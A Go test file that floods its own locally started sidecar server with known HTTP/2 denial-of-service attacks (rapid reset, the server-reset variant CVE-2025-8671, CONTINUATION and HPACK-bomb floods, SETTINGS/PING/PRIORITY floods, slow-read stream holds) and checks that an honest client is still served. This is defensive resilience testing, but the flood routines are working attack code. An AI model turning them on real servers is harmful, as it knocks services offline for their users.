package attack_test

import (
	"bytes"
	"io"
	"net"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attacker2 writes frames of HTTP/2 as it likes, and reads what comes only to throw
// it away.
type attacker2 struct {
	conn net.Conn
	*http2.Framer
	block  bytes.Buffer
	coder  *hpack.Encoder
	stream uint32 // the next one
	gone   chan struct{}
}

// attack2 connects, with settings of its own.
func attack2(s *sidecar, id *identity, settings ...http2.Setting) (*attacker2, error) {
	conn, err := dial(s.address, id.client("h2"))
	if err != nil {
		return nil, err
	}
	a := &attacker2{conn: conn, Framer: http2.NewFramer(conn, conn), stream: 1, gone: make(chan struct{})}
	a.AllowIllegalWrites = true
	a.coder = hpack.NewEncoder(&a.block)
	go func() {
		defer close(a.gone)
		_, _ = io.Copy(io.Discard, conn) // it ends where either side closes
	}()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	return a, a.WriteSettings(settings...)
}

func (a *attacker2) close() {
	a.conn.Close()
	<-a.gone
}

// header encodes the header block of a request: name, value, ... follow.
func (a *attacker2) header(method, path string, lines ...string) []byte {
	a.block.Reset()
	for all := append([]string{":method", method, ":scheme", "https", ":authority", "sidecar", ":path", path}, lines...); len(all) > 1; all = all[2:] {
		_ = a.coder.WriteField(hpack.HeaderField{Name: all[0], Value: all[1]}) // a Buffer takes all
	}
	return bytes.Clone(a.block.Bytes())
}

// open begins a stream with a header block, however many frames it needs.
func (a *attacker2) open(block []byte, end bool) error {
	const frame = 16 << 10
	first := block[:min(frame, len(block))]
	block = block[len(first):]
	err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: first, EndStream: end, EndHeaders: len(block) == 0})
	for err == nil && len(block) > 0 {
		next := block[:min(frame, len(block))]
		block = block[len(next):]
		err = a.WriteContinuation(a.stream, len(block) == 0, next)
	}
	a.stream += 2
	return err
}

// rounds is how often an attacker comes back, on a connection of its own. We end most
// of them soon.
const rounds = 2

// floods are what an attacker2 does until it is stopped, or has done it often enough.
var floods = []struct {
	name        string
	connections int
	holds       bool // the attack is to stay
	settings    []http2.Setting
	attack      func(a *attacker2) error
}{
	{"rapid reset", 8, false, nil, func(a *attacker2) error {
		block := a.header("POST", statsPath)
		for range 20_000 {
			id := a.stream
			if err := a.open(block, true); err != nil {
				return err
			}
			if err := a.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return nil
	}},
	{"reset by the server", 8, false, nil, func(a *attacker2) error { // it is we who make it reset (CVE-2025-8671)
		block := a.header("POST", statsPath)
		for range 20_000 {
			id := a.stream
			if err := a.open(block, false); err != nil {
				return err
			}
			if err := a.WriteWindowUpdate(id, 0); err != nil {
				return err
			}
		}
		return nil
	}},
	{"CONTINUATION without end", 8, false, nil, func(a *attacker2) error {
		block := a.header("POST", statsPath)
		if err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true}); err != nil {
			return err
		}
		piece := a.header("x", "y", "x-more", strings.Repeat("x", 10_000))
		for range 5_000 {
			if err := a.WriteContinuation(1, false, piece); err != nil {
				return err
			}
		}
		return nil
	}},
	{"empty CONTINUATION", 8, false, nil, func(a *attacker2) error {
		if err := a.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.header("POST", statsPath), EndStream: true}); err != nil {
			return err
		}
		for range 50_000 {
			if err := a.WriteContinuation(1, false, nil); err != nil {
				return err
			}
		}
		return nil
	}},
	{"SETTINGS", 8, false, nil, func(a *attacker2) error {
		for i := range 50_000 {
			if err := a.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i)}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}); err != nil {
				return err
			}
		}
		return nil
	}},
	{"PING", 8, false, nil, func(a *attacker2) error {
		for range 50_000 {
			if err := a.WritePing(false, [8]byte{}); err != nil {
				return err
			}
		}
		return nil
	}},
	{"PRIORITY", 8, false, nil, func(a *attacker2) error {
		for i := range 50_000 {
			if err := a.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3), Weight: 1}); err != nil {
				return err
			}
		}
		return nil
	}},
	{"empty DATA", 8, false, nil, func(a *attacker2) error {
		if err := a.open(a.header("POST", statsPath), false); err != nil {
			return err
		}
		for range 50_000 {
			if err := a.WriteData(1, false, nil); err != nil {
				return err
			}
		}
		return nil
	}},
	{"WINDOW_UPDATE", 8, false, nil, func(a *attacker2) error {
		if err := a.open(a.header("POST", statsPath), false); err != nil {
			return err
		}
		for range 50_000 {
			if err := a.WriteWindowUpdate(1, 1); err != nil {
				return err
			}
		}
		return nil
	}},
	{"headers of many fields, bodies that do not come", 32, true, nil, func(a *attacker2) error {
		var lines []string
		for i := range 1_500 {
			lines = append(lines, "x"+strconv.Itoa(i), "v")
		}
		return a.hold(a.header("POST", statsPath, lines...), false)
	}},
	{"HPACK bombs, bodies that do not come", 32, true, nil, func(a *attacker2) error {
		var lines []string
		for range 15 { // one value in the table of 4 KB, and as often as may be
			lines = append(lines, "x-bomb", strings.Repeat("x", 3900))
		}
		return a.hold(a.header("POST", statsPath, lines...), false)
	}},
	{"answers that are not taken", 32, true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(a *attacker2) error {
		return a.hold(a.header("GET", "/v1/apps/7/configurations/large"), true)
	}},
	{"refusals that are not taken", 32, true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(a *attacker2) error {
		return a.hold(a.header("GET", "/nowhere"), true)
	}},
}

// attackOnce is one attack, on a connection of its own, and says how it ended.
func attackOnce(s *sidecar, id *identity, settings []http2.Setting, attack func(*attacker2) error) string {
	a, err := attack2(s, id, settings...)
	if a != nil {
		defer a.close()
	}
	if err == nil {
		err = attack(a)
	}
	if err != nil {
		return "cut off"
	}
	return "done"
}

// hold opens as many streams as a connection may have, and waits.
func (a *attacker2) hold(block []byte, end bool) error {
	for range 100 {
		if err := a.open(block, end); err != nil {
			return err
		}
	}
	select {
	case <-a.gone:
	case <-time.After(6 * time.Second):
	}
	return nil
}

// TestFrames floods with frames of HTTP/2, each kind for itself.
func TestFrames(t *testing.T) {
	id := newIdentity(t)
	for _, f := range floods {
		t.Run(f.name, func(t *testing.T) {
			c := newCollector(t)
			s := start(t, c.URL, callstats, id)
			h := newHonest(s, id.client())
			h.begin()
			var attack sync.WaitGroup
			var ended tally
			for range f.connections {
				attack.Go(func() {
					for range rounds {
						ended.add(attackOnce(s, id, f.settings, f.attack))
						if f.holds {
							return
						}
					}
				})
			}
			attack.Wait()
			t.Logf("attackers: %v", &ended)
			h.end(t, busy)
			s.checkAlive()
			c.check(t)
		})
	}
}
